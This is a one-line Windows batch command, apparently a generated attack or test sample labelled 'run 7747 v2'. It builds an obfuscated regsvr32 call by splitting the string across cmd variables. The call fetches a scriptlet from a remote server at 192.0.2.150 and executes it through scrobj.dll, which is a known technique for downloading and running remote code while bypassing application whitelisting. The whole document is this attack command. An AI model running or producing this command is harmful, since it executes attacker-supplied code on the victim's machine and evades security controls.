REM run 7747 v2
cmd /v:on /c "set jev0=regsvr32 /s /n /u /i:http://192.0.2.150/file.&&set nap1=sct scrobj.dll&&!jev0!!nap1!"
